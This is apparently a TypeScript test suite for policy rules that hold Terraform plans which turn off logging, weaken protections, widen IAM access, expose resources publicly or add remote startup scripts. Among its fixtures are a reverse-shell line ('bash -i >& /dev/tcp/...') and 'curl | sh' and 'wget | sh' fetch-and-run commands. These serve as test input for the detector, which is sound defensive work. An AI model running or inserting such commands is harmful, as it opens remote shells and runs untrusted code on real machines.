import { planOf } from '../../../../source-tools/terraform/rules/define-terraform-rule';
import { runRule } from '../../../policy/rules/support/run-pack-rule';
import { isHeld } from './is-held';

describe('logging and audit that are switched off', () => {
  it.each([
    ['aws_cloudtrail.t', { is_multi_region_trail: true }, { is_multi_region_trail: false }],
    ['aws_cloudtrail.t', { enable_logging: true }, null],
    ['aws_cloudtrail.t', null, { enable_logging: false }],
    ['aws_cloudwatch_log_group.g', { retention_in_days: 365 }, { retention_in_days: 1 }],
    ['aws_cloudwatch_log_group.g', { retention_in_days: 0 }, { retention_in_days: 30 }],
    [
      'aws_db_instance.d',
      { enabled_cloudwatch_logs_exports: ['audit', 'error'] },
      { enabled_cloudwatch_logs_exports: ['error'] },
    ],
    ['aws_eks_cluster.c', { enabled_cluster_log_types: ['audit'] }, { enabled_cluster_log_types: [] }],
    ['aws_lb.l', { access_logs: [{ bucket: 'b', enabled: true }] }, { access_logs: [{ bucket: 'b', enabled: false }] }],
    ['aws_lb.l', { access_logs: [{ bucket: 'b', enabled: true }] }, { access_logs: [] }],
    ['aws_guardduty_detector.g', { enable: true }, { enable: false }],
    ['google_logging_project_sink.s', { disabled: false }, { disabled: true }],
    [
      'aws_rds_cluster_parameter_group.g',
      { parameter: [{ name: 'log_statement', value: 'all' }] },
      { parameter: [{ name: 'log_statement', value: 'none' }] },
    ],
    [
      'azurerm_postgresql_flexible_server_configuration.c',
      { name: 'pgaudit.log', value: 'on' },
      { name: 'pgaudit.log', value: 'off' },
    ],
    ['google_container_cluster.c', { logging_service: 'logging.example.com' }, { logging_service: 'none' }],
    ['google_compute_subnetwork.s', { log_config: [{ flow_sampling: 0.5 }] }, { log_config: [] }],
    ['google_project_iam_audit_config.a', null, { audit_log_config: [{ exempted_members: ['user:a@example.com'] }] }],
    [
      'google_project_iam_audit_config.a',
      { audit_log_config: [{ log_type: 'DATA_READ', exempted_members: [] }] },
      { audit_log_config: [{ log_type: 'DATA_READ', exempted_members: ['user:a@example.com'] }] },
    ],
    ['google_logging_project_exclusion.x', { filter: 'a' }, { filter: 'a OR b' }],
    ['google_logging_project_exclusion.x', null, { filter: 'severity>=ERROR' }],
    ['aws_elasticsearch_domain.e', { settings: { disable_audit: false } }, { settings: { disable_audit: true } }],
    ['aws_cloudwatch_metric_alarm.a', { actions_enabled: true }, { actions_enabled: false }],
    ['aws_cloudwatch_metric_alarm.a', { alarm_actions: ['a', 'b'] }, { alarm_actions: ['b'] }],
    ['aws_cloudtrail.t', { s3_bucket_name: 'audit' }, { s3_bucket_name: 'other' }],
    ['aws_flow_log.f', { traffic_type: 'ALL' }, { traffic_type: 'REJECT' }],
    ['google_logging_project_sink.s', { filter: '' }, { filter: 'severity>=CRITICAL' }],
    ['aws_config_configuration_recorder.r', { recording_group: [{ all_supported: true }] }, { recording_group: [{}] }],
  ])('are held: %s from %j to %j', (address, before, after) => {
    expect(isHeld('terraform_logging_off', address, before, after)).toBe(true);
  });

  it.each([
    ['aws_cloudwatch_log_group.g', { retention_in_days: 30 }, { retention_in_days: 90 }],
    ['aws_cloudwatch_log_group.g', { retention_in_days: 30 }, { retention_in_days: 0 }],
    ['aws_cloudwatch_log_group.g', null, { retention_in_days: 14 }],
    ['aws_cloudtrail.t', { name: 'a', enable_logging: true }, { name: 'b', enable_logging: true }],
    ['aws_lb.l', { access_logs: [] }, { access_logs: [{ bucket: 'b', enabled: true }] }],
    ['aws_instance.i', { catalog: true, tags: { log: 'yes' } }, { catalog: false, tags: {} }],
    ['aws_lambda_function.f', { timeout: 30 }, { timeout: 3 }],
    ['aws_lambda_function.f', { log_bucket: 'a' }, { log_bucket: 'b' }],
    ['aws_cloudwatch_metric_alarm.a', { threshold: 80 }, { threshold: 90 }],
    [
      'google_project_iam_audit_config.a',
      { service: 'a', audit_log_config: [{ exempted_members: ['user:a@example.com'] }] },
      { service: 'b', audit_log_config: [{ exempted_members: ['user:a@example.com'] }] },
    ],
  ])('are not seen in %s from %j to %j', (address, before, after) => {
    expect(isHeld('terraform_logging_off', address, before, after)).toBe(false);
  });

  it('are undecided if the plan does not show the new value', () => {
    expect(
      isHeld(
        'terraform_logging_off',
        'aws_cloudtrail.t',
        { enable_logging: true },
        {},
        { after_unknown: { enable_logging: true } },
      ),
    ).toBe(true);
  });
});

describe('a protection that is switched off', () => {
  it.each([
    [
      'aws_s3_bucket_versioning.b',
      { versioning_configuration: [{ status: 'Enabled' }] },
      { versioning_configuration: [{ status: 'Suspended' }] },
    ],
    ['aws_db_instance.d', { backup_retention_period: 30 }, { backup_retention_period: 0 }],
    ['aws_db_instance.d', null, { storage_encrypted: false }],
    [
      'aws_instance.i',
      { metadata_options: [{ http_tokens: 'required' }] },
      { metadata_options: [{ http_tokens: 'optional' }] },
    ],
    ['aws_iam_account_password_policy.p', { minimum_password_length: 14 }, { minimum_password_length: 6 }],
    ['aws_s3_bucket_public_access_block.b', { block_public_acls: true }, null],
    ['azurerm_storage_account.s', { enable_https_traffic_only: true }, { enable_https_traffic_only: false }],
    ['aws_kms_key.k', { enable_key_rotation: true }, { enable_key_rotation: false }],
    ['aws_wafv2_web_acl.a', { rule: [{ name: 'a' }, { name: 'b' }] }, { rule: [{ name: 'b' }] }],
    ['aws_wafv2_web_acl.a', { default_action: [{ block: [{}] }] }, { default_action: [{ block: [], allow: [{}] }] }],
    ['google_compute_security_policy.p', { rule: [{ action: 'deny(403)' }] }, { rule: [{ action: 'allow' }] }],
    [
      'azurerm_web_application_firewall_policy.p',
      { policy_settings: [{ mode: 'Prevention' }] },
      { policy_settings: [{ mode: 'Detection' }] },
    ],
    ['azurerm_storage_account.s', { min_tls_version: 'TLS1_2' }, { min_tls_version: 'TLS1_0' }],
    ['github_branch_protection.b', { enforce_admins: true }, { enforce_admins: false }],
    ['github_branch_protection.b', { allows_deletions: false }, { allows_deletions: true }],
    [
      'github_branch_protection.b',
      { required_pull_request_reviews: [{ required_approving_review_count: 2 }] },
      { required_pull_request_reviews: [{ required_approving_review_count: 0 }] },
    ],
    ['azurerm_container_registry.r', { public_network_access_enabled: false }, { public_network_access_enabled: true }],
    ['example_workspace.w', { deny_public_access: true }, { deny_public_access: false }],
    ['example_workspace.w', { no_public_ip: true }, { no_public_ip: false }],
    ['azurerm_search_service.s', { public_network_access: 'Disabled' }, { public_network_access: 'Enabled' }],
    ['azurerm_cosmosdb_account.a', { local_authentication_disabled: true }, { local_authentication_disabled: false }],
    [
      'azurerm_linux_virtual_machine.m',
      { disable_password_authentication: true },
      { disable_password_authentication: false },
    ],
    [
      'azurerm_cognitive_account.a',
      { network_acls: [{ default_action: 'Deny' }] },
      { network_acls: [{ default_action: 'Allow' }] },
    ],
    ['linode_firewall.f', { inbound_policy: 'DROP' }, { inbound_policy: 'ACCEPT' }],
    ['aws_api_gateway_method.m', { authorization: 'AWS_IAM' }, { authorization: 'NONE' }],
    ['aws_lb_listener.l', { protocol: 'HTTPS' }, { protocol: 'HTTP' }],
    ['aws_ecr_repository.r', { image_tag_mutability: 'IMMUTABLE' }, { image_tag_mutability: 'MUTABLE' }],
    ['google_storage_bucket.b', { public_access_prevention: 'enforced' }, { public_access_prevention: 'inherited' }],
    ['google_container_cluster.c', { enable_legacy_abac: false }, { enable_legacy_abac: true }],
    ['google_compute_backend_service.s', { security_policy: 'p' }, { security_policy: null }],
    [
      'aws_db_parameter_group.g',
      {
        parameter: [
          { name: 'work_mem', value: '1' },
          { name: 'rds.force_ssl', value: '1' },
        ],
      },
      {
        parameter: [
          { name: 'rds.force_ssl', value: '0' },
          { name: 'work_mem', value: '1' },
        ],
      },
    ],
    [
      'aws_s3_bucket_object_lock_configuration.c',
      { rule: [{ default_retention: [{ days: 365 }] }] },
      { rule: [{ default_retention: [{ days: 1 }] }] },
    ],
    [
      'github_repository_ruleset.r',
      { enforcement: 'active', bypass_actors: [] },
      { enforcement: 'active', bypass_actors: [{ actor_id: 5 }] },
    ],
    ['google_iam_deny_policy.p', { rules: [{ a: 1 }, { a: 2 }] }, { rules: [{ a: 1 }] }],
  ])('is held: %s from %j to %j', (address, before, after) => {
    expect(isHeld('terraform_protection_off', address, before, after)).toBe(true);
  });

  it.each([
    ['aws_db_instance.d', { backup_retention_period: 7 }, { backup_retention_period: 30 }],
    ['aws_db_instance.d', null, { storage_encrypted: true, backup_retention_period: 7 }],
    ['aws_db_instance.d', { kms_key_id: 'a' }, { kms_key_id: 'b' }],
    ['aws_wafv2_web_acl.a', { rule: [{ name: 'a', on: [{}] }] }, { rule: [{ name: 'b' }, { name: 'a', on: [{}] }] }],
    ['azurerm_storage_account.s', { min_tls_version: 'TLS1_0' }, { min_tls_version: 'TLS1_2' }],
    ['azurerm_container_registry.r', { public_network_access_enabled: true }, { public_network_access_enabled: false }],
    ['aws_s3_bucket_public_access_block.b', { ignore_public_acls: false }, { ignore_public_acls: true }],
    ['example_workspace.w', { deny_public_access: false }, { deny_public_access: true }],
    ['aws_api_gateway_method.m', { authorization: 'NONE' }, { authorization: 'AWS_IAM' }],
    ['aws_lb_target_group.g', { protocol: 'HTTP', port: 80 }, { protocol: 'HTTP', port: 8080 }],
    ['aws_instance.i', { public_ip: '203.0.113.1', private_ip: '10.0.0.1' }, { public_ip: null, private_ip: null }],
    ['aws_db_parameter_group.g', { parameter: [{ name: 'work_mem', value: '1' }] }, { parameter: [] }],
    [
      'aws_secretsmanager_secret_rotation.r',
      { rotation_rules: [{ automatically_after_days: 90 }] },
      { rotation_rules: [{ automatically_after_days: 30 }] },
    ],
  ])('is not seen in %s from %j to %j', (address, before, after) => {
    expect(isHeld('terraform_protection_off', address, before, after)).toBe(false);
  });
});

describe('iam:PassRole', () => {
  const isBroad = (statement: object): boolean =>
    isHeld('terraform_iam_widening', 'aws_iam_policy.p', null, {
      policy: JSON.stringify({ Statement: [{ Effect: 'Allow', ...statement }] }),
    });

  it.each(['*', 'arn:aws:iam::111122223333:role/*', 'arn:aws:iam::111122223333:role/app-*'])(
    'is held for %s',
    (Resource) => {
      expect(isBroad({ Action: 'iam:PassRole', Resource })).toBe(true);
      expect(isBroad({ Action: ['ecs:RunTask', 'iam:Pass*'], Resource: [Resource] })).toBe(true);
    },
  );

  it('passes if it names the role', () => {
    expect(isBroad({ Action: 'iam:PassRole', Resource: 'arn:aws:iam::111122223333:role/worker' })).toBe(false);
  });
});

it.each([
  ['aws_iam_access_key.k', { user: 'ci' }],
  [
    'aws_iam_role.r',
    {
      assume_role_policy:
        '{"Statement":[{"Effect":"Allow","Action":"sts:AssumeRole","Principal":{"AWS":"arn:aws:iam::999900001111:root"}}]}',
    },
  ],
  ['aws_iam_role_policy_attachment.a', { policy_arn: 'arn:aws:iam::aws:policy/AmazonEC2FullAccess' }],
])('terraform_iam_widening holds %s with %j', (address, after) => {
  expect(isHeld('terraform_iam_widening', address, null, after)).toBe(true);
});

it.each([
  ['terraform_remote_script', 'aws_instance.i', null, { user_data: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' }, true],
  [
    'terraform_remote_script',
    'aws_instance.i',
    null,
    { user_data_base64: Buffer.from('#!/bin/sh\ncurl x | sh').toString('base64') },
    true,
  ],
  [
    'terraform_remote_script',
    'google_compute_instance.i',
    null,
    { metadata: { 'startup-script': 'wget -qO- x | sh' } },
    true,
  ],
  ['terraform_remote_script', 'aws_ssm_association.s', null, { name: 'AWS-RunShellScript' }, true],
  ['terraform_remote_script', 'aws_instance.i', null, { user_data: 'systemctl start worker' }, false],
  [
    'terraform_dns_changed',
    'cloudflare_record.r',
    { type: 'A', content: '203.0.113.1' },
    { type: 'A', content: '203.0.113.2' },
    true,
  ],
  ['terraform_dns_changed', 'aws_route53_record.r', null, { type: 'NS', records: ['ns.example.com'] }, true],
  [
    'terraform_dns_changed',
    'aws_route53_record.r',
    { type: 'A', ttl: 60, records: ['a'] },
    { type: 'A', ttl: 300, records: ['a'] },
    false,
  ],
  ['terraform_outside_connection', 'aws_vpc_peering_connection.p', null, { peer_owner_id: '9' }, true],
  [
    'terraform_public_access',
    'aws_eks_cluster.c',
    null,
    { vpc_config: [{ public_access_cidrs: ['0.0.0.0/0'] }] },
    true,
  ],
  [
    'terraform_public_access',
    'aws_eks_cluster.c',
    null,
    { vpc_config: [{ public_access_cidrs: ['10.0.0.0/8'] }] },
    false,
  ],
  [
    'terraform_public_access',
    'google_sql_database_instance.d',
    null,
    { settings: [{ ip_configuration: [{ authorized_networks: [{ value: '10.0.0.1' }, { value: '0.0.0.0/0' }] }] }] },
    true,
  ],
])('%s on %s from %j to %j: %s', (rule, address, before, after, held) => {
  expect(isHeld(rule, address, before, after)).toBe(held);
});

describe('parts of a plan that are not read', () => {
  const statusOf = (more: object): string =>
    runRule(
      'terraform_unread_member',
      planOf([{ address: 'aws_sqs_queue.q', actions: ['create'], after: {} }], more as Record<string, unknown>),
    ).status;

  it.each([
    ['actions that apply invokes', { action_invocations: [{ address: 'action.aws_lambda_invoke.x' }] }],
    ['actions that are put off', { deferred_action_invocations: [{ reason: 'x' }] }],
    ['changes that are put off', { deferred_changes: [{ reason: 'x' }] }],
    ['a part of a later format', { side_effects: {} }],
  ])('hold it: %s', (_, more) => {
    expect(statusOf(more)).toBe('BLOCK');
  });

  it.each([
    { action_invocations: [] },
    { timestamp: '2026-03-01T00:00:00Z', relevant_attributes: [], prior_state: {} },
  ])('do not hold it if they are empty or known: %j', (more) => {
    expect(statusOf(more)).toBe('ALLOW');
  });
});

describe('a setting that may make a resource public', () => {
  const networks = (value: unknown) => ({ settings: [{ ip_configuration: [{ authorized_networks: value }] }] });

  it.each([
    ['google_sql_database_instance.d', networks(null), networks(true)],
    ['google_sql_database_instance.d', networks([null]), networks([true])],
    ['google_sql_database_instance.d', {}, { settings: true }],
    ['google_container_cluster.c', {}, { master_authorized_networks_config: true }],
    [
      'aws_eks_cluster.c',
      { vpc_config: [{ public_access_cidrs: ['10.0.0.0/8', null] }] },
      { vpc_config: [{ public_access_cidrs: [false, true] }] },
    ],
    ['aws_db_snapshot.s', { shared_accounts: [null] }, { shared_accounts: [true] }],
    ['azurerm_mssql_firewall_rule.f', { start_ip_address: '10.0.0.1' }, { end_ip_address: true }],
  ])('is undecided if the plan hides it or a list around it: %s with %j', (address, after, hidden) => {
    expect(isHeld('terraform_public_access', address, null, after, { after_unknown: hidden })).toBe(true);
    const plan = planOf([{ address, actions: ['create'], after, after_sensitive: hidden }]);
    expect(runRule('terraform_public_access', plan).status).toBe('BLOCK');
  });

  it.each([
    ['aws_db_instance.d', { publicly_accessible: 'true' }],
    ['aws_eks_cluster.c', { vpc_config: [{ public_access_cidrs: ['0.0.0.0/1', '128.0.0.0/1'] }] }],
    ['google_sql_database_instance.d', networks([{ value: '0.0.0.0/1' }, { value: '128.0.0.0/1' }])],
    [
      'azurerm_postgresql_flexible_server_firewall_rule.f',
      { start_ip_address: '1.0.0.0', end_ip_address: '254.0.0.0' },
    ],
    ['azurerm_redis_firewall_rule.f', { start_ip: '0.0.0.0', end_ip: '0.0.0.0' }],
    [
      'aws_s3_bucket_acl.a',
      {
        access_control_policy: [
          { grant: [{ grantee: [{ uri: 'http://acs.amazonaws.example/groups/global/AllUsers' }] }] },
        ],
      },
    ],
    ['google_storage_bucket_acl.a', { role_entity: ['OWNER:project-owners-1', 'READER:allUsers'] }],
    ['google_bigquery_dataset.d', { access: [{ special_group: 'allAuthenticatedUsers' }] }],
    ['azurerm_storage_account_network_rules.r', { default_action: 'allow' }],
    ['cloudflare_access_policy.p', { decision: 'bypass' }],
  ])('is found in every form: %s with %j', (address, after) => {
    expect(isHeld('terraform_public_access', address, null, after)).toBe(true);
  });

  it.each([
    [
      'aws_eks_cluster.c',
      { vpc_config: [{ endpoint_public_access: false }] },
      { vpc_config: [{ public_access_cidrs: true }] },
    ],
    ['azurerm_mssql_firewall_rule.f', { start_ip_address: '203.0.113.1', end_ip_address: '203.0.113.255' }, {}],
    ['google_sql_database_instance.d', networks([{ value: '203.0.113.0/24' }]), {}],
  ])('passes if it has no effect or names one organization: %s with %j', (address, after, unknown) => {
    expect(isHeld('terraform_public_access', address, null, after, { after_unknown: unknown })).toBe(false);
  });

  it('of an Azure firewall rule is found if only its first address changes', () => {
    const [before, after] = ['203.0.113.9', '0.0.0.0'].map((start_ip_address) => ({
      start_ip_address,
      end_ip_address: '203.0.113.9',
    }));
    expect(isHeld('terraform_public_access', 'azurerm_mssql_firewall_rule.f', before as object, after as object)).toBe(
      true,
    );
  });
});
